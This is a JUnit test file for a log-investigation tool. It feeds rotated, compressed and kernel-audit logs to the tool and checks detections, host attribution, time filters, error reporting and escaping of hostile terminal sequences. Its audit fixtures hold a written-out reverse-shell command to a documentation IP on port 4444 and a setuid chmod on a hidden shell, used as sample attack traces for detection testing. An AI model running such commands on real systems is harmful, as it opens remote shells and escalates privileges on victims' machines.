package dev.panoptes.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.panoptes.cli.Session.Run;
import dev.panoptes.cli.shell.ExitCode;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.FileTime;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** What people hand over: rotated and compressed logs, single files of the audit, and what is no log at all. */
final class InvestigateInputsTest {
    @TempDir
    private Path directory;

    private Session session;

    @BeforeEach
    void startASession() {
        session = new Session(directory);
    }

    private Run investigate(String... words) {
        List<String> all = new ArrayList<>(List.of("investigate", "--timezone", "UTC"));
        all.addAll(Arrays.asList(words));
        return session.run(all.toArray(String[]::new));
    }

    private JsonNode told(String... words) {
        List<String> all = new ArrayList<>(List.of("--output", "json"));
        all.addAll(Arrays.asList(words));
        return new JsonMapper().readTree(investigate(all.toArray(String[]::new)).out());
    }

    private void write(String name, String text) throws IOException {
        Path file = directory.resolve(name);
        Files.createDirectories(file.getParent());
        Files.writeString(file, text);
    }

    private void compress(String name, String text) throws IOException {
        try (OutputStream out = new GZIPOutputStream(Files.newOutputStream(directory.resolve(name)))) {
            out.write(text.getBytes(StandardCharsets.UTF_8));
        }
    }

    private static String failed(int from, int to) {
        StringBuilder log = new StringBuilder();
        for (int i = from; i < to; i++) {
            log.append(
                    "2026-03-01T09:%02d:%02d+00:00 web-1 sshd[%d]: Failed password for root from 203.0.113.9 port 4 ssh2\n"
                            .formatted(10 + i / 20, i * 3 % 60, 100 + i));
        }
        return log.toString();
    }

    private static String audit(String prefix, int serial) {
        StringBuilder log = new StringBuilder();
        String[] lines = {"bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "chmod 4755 /tmp/.x/sh"};
        for (int i = 0; i < lines.length; i++) {
            String[] words = i == 0 ? lines[i].split(" ", 3) : lines[i].split(" ");
            String id = "msg=audit(%d.123:%d):".formatted(1_772_356_200 + 60 * i, serial + i);
            StringBuilder args = new StringBuilder();
            for (int a = 0; a < words.length; a++) {
                args.append(" a").append(a).append("=\"").append(words[a]).append('"');
            }
            log.append(prefix + "type=SYSCALL " + id
                    + " arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=20 auid=1000"
                    + " uid=0 gid=0 euid=0 comm=\"" + words[0] + "\" exe=\"/usr/bin/" + words[0] + "\" key=(null)\n");
            log.append(prefix + "type=EXECVE " + id + " argc=" + words.length + args + "\n");
        }
        return log.toString();
    }

    private static String hosts(JsonNode told) {
        List<String> names = new ArrayList<>();
        told.path("incidents")
                .forEach(incident -> incident.path("entities").forEach(entity -> {
                    if (entity.path("type").asString().equals("host")) {
                        names.add(entity.path("id").asString());
                    }
                }));
        return String.join(",", names);
    }

    @Test
    void rotatedAndCompressedLogsAreOneLogWithTheirLines() throws IOException {
        write(
                "logs/auth.log",
                "2026-03-01T09:13:00+00:00 web-1 sshd[9]: Accepted password for root from 203.0.113.9 port 5 ssh2\n");
        write("logs/auth.log.1", failed(20, 40));
        compress("logs/auth.log.2.gz", failed(0, 20));
        JsonNode told = told("logs");
        assertThat(told.path("summary").path("events").asInt()).isEqualTo(41);
        assertThat(told.path("summary").path("repeated").asInt()).isZero();
        assertThat(told.path("incidents").size()).isEqualTo(1);
        assertThat(told.path("incidents").get(0).path("events").toString())
                .contains(
                        "\"logs/auth.log.2.gz:1\"",
                        "\"logs/auth.log.2.gz:20\"",
                        "\"logs/auth.log.1:7\"",
                        "\"logs/auth.log:1\"");
    }

    @Test
    void aCompressedLogThatCrossesAYearBeginsInTheYearBefore() throws IOException {
        String line = " 10:00:00 web-1 sshd[1]: Accepted password for root from 203.0.113.9 port 4 ssh2\n";
        compress("auth.log.2.gz", "Dec 30" + line + "Jan  2" + line);
        Files.setLastModifiedTime(
                directory.resolve("auth.log.2.gz"), FileTime.from(Instant.parse("2026-01-03T00:00:00Z")));
        JsonNode finding = told("auth.log.2.gz").path("findings").get(0);
        assertThat(finding.path("first").asString()).isEqualTo("2025-12-30T10:00:00Z");
        assertThat(finding.path("last").asString()).isEqualTo("2026-01-02T10:00:00Z");
    }

    @Test
    void auditRecordsGivenByThemselvesAreOfOneHostThatIsCalledUnnamed() throws IOException {
        write("evidence/audit.log", audit("", 500));
        JsonNode told = told("evidence/audit.log");
        assertThat(told.path("incidents").size()).as(told.toString()).isEqualTo(1);
        assertThat(hosts(told)).isEqualTo("unnamed host of evidence");
        assertThat(investigate("evidence/audit.log").err())
                .contains("evidence/audit.log: its records name no host", "--host NAME");
    }

    @Test
    void anOptionSaysWhichHostAuditRecordsAreOfAndTheirNodeOverridesIt() throws IOException {
        write("audit.log", audit("", 500));
        write("node.log", audit("node=db-7 ", 500));
        assertThat(hosts(told("--host", "db-9", "audit.log"))).isEqualTo("db-9");
        assertThat(hosts(told("--host", "db-9", "node.log"))).isEqualTo("db-7");
    }

    @Test
    void whatASensorReplayedIsOfTheHostThatWasNamedThenOrLater() throws IOException {
        write("audit.log", audit("", 500));
        Run named = session.run(
                "sensor", "kernel_audit", "--replay", "audit.log", "--host", "db-9", "--no-heartbeat", "--once");
        write("named.json", named.out());
        assertThat(hosts(told("named.json"))).isEqualTo("db-9");
        Run nameless = session.run("sensor", "kernel_audit", "--replay", "audit.log", "--no-heartbeat", "--once");
        write("nameless.json", nameless.out());
        assertThat(hosts(told("--host", "db-8", "nameless.json"))).isEqualTo("db-8");
        assertThat(hosts(told("--host", "db-8", "named.json"))).isEqualTo("db-9");
    }

    @Test
    void auditRecordsInAFolderBelowAreOfTheOneHostThatTheLogsAboveName() throws IOException {
        write("log/auth.log", failed(0, 3));
        write("log/audit/audit.log", audit("", 500));
        assertThat(hosts(told("log"))).isEqualTo("web-1");
        write("log/other.log", failed(0, 3).replace("web-1", "web-2"));
        assertThat(hosts(told("log"))).isEqualTo("unnamed host of log/audit");
    }

    @Test
    void numbersThatAreMissingAreNoUnreadableRecords() throws IOException {
        write("audit.log", audit("", 500) + audit("", 900));
        assertThat(investigate("--host", "a", "audit.log").err())
                .contains("audit.log: 398 records are missing")
                .doesNotContain("could not be read");
    }

    @Test
    void eventsOfAnotherTimeAreLeftOutAndCounted() throws IOException {
        write("auth.log", failed(0, 60));
        JsonNode told = told("--since", "2026-03-01T09:11", "--until", "2026-03-01T10:12:00+01:00", "auth.log");
        assertThat(told.path("summary").path("events").asInt()).isEqualTo(20);
        assertThat(told.path("summary").path("outside").asInt()).isEqualTo(40);
        assertThat(told.path("summary").path("text").asString()).contains("40 of another time than was asked for");
        assertThat(told("--since", "2026-03-02", "auth.log")
                        .path("summary")
                        .path("events")
                        .asInt())
                .isZero();
        Run wrong = investigate("--since", "yesterday", "auth.log");
        assertThat(wrong.code()).isEqualTo(ExitCode.USAGE);
        assertThat(wrong.err()).contains("--since: yesterday is no time", "2026-03-01T09:30");
    }

    @Test
    void whatCannotBeReadIsToldWithItsReasonAndWhatToDo() throws IOException {
        write("notes.txt", "just some words\nno log\n");
        write("x/notes.txt", "just some words\nno log\n");
        Files.write(directory.resolve("a.xz"), new byte[] {(byte) 0xfd, '7', 'z', 'X', 'Z', 0, 1, 2});
        Files.write(
                directory.resolve("short.pcap"), new byte[] {(byte) 0xd4, (byte) 0xc3, (byte) 0xb2, (byte) 0xa1, 2, 0});
        byte[] tar = new byte[1024];
        System.arraycopy("ustar".getBytes(StandardCharsets.US_ASCII), 0, tar, 257, 5);
        Files.write(directory.resolve("logs.tar"), tar);
        Files.writeString(directory.resolve("empty.log"), "");
        Run run = investigate("notes.txt", "a.xz", "short.pcap", "logs.tar", "gone", "/dev/null", "empty.log");
        assertThat(run.code()).isEqualTo(ExitCode.INCOMPLETE);
        assertThat(run.err())
                .contains(
                        "could not be read: notes.txt: nothing here knows what it is",
                        "could not be read: a.xz: compressed by xz, which is not read; unpack it: xz -dk a.xz",
                        "could not be read: short.pcap: nothing here knows what it is",
                        "could not be read: logs.tar: a tar archive",
                        "could not be read: gone: it is not there",
                        "could not be read: /dev/null: it is no file",
                        "empty.log: it is empty");
        assertThat(investigate("empty.log").code()).isEqualTo(ExitCode.OK);
        Run folder = investigate("x");
        assertThat(folder.code()).isEqualTo(ExitCode.OK);
        assertThat(folder.err()).contains("x/notes.txt: no line of it is one of a log that is known");
    }

    @Test
    void aLineBeyondTheBoundIsNoEventAndTheNextOneIsRead() throws IOException {
        String event =
                "{\"@timestamp\":\"2026-03-01T09:00:00Z\",\"event\":{\"dataset\":\"panoptes.proc\"},\"message\":\"%s\"}\n";
        write("events.json", event.formatted("x".repeat(9 << 20)) + event.formatted("short"));
        JsonNode told = told("events.json");
        assertThat(told.path("summary").path("events").asInt()).isEqualTo(1);
        assertThat(told.path("unreadable").toString()).contains("events.json: 1 line is no event");
    }

    @Test
    void nothingToReadIsAWrongUsage() {
        Run run = session.run("investigate");
        assertThat(run.code()).isEqualTo(ExitCode.USAGE);
        assertThat(run.err()).contains("FILE|DIR").doesNotContain("defect");
    }

    @Test
    void whatALogHoldsNeitherDrivesTheTerminalNorTurnsItsTextAround() throws IOException {
        write(
                "auth.log",
                failed(0, 40)
                        .replace("for root", "for invalid user a\u202e\u009b31m<b>\u001b[2J")
                        .replace("web-1", "web-1"));
        for (String format : List.of("text", "html")) {
            String out = investigate("--output", format, "auth.log").out();
            assertThat(out).contains("203.0.113.9").doesNotContain("\u202e", "\u009b", "\u001b", "<b>\u001b");
        }
        assertThat(investigate("--output", "html", "auth.log").out()).doesNotContain("<b>");
    }
}
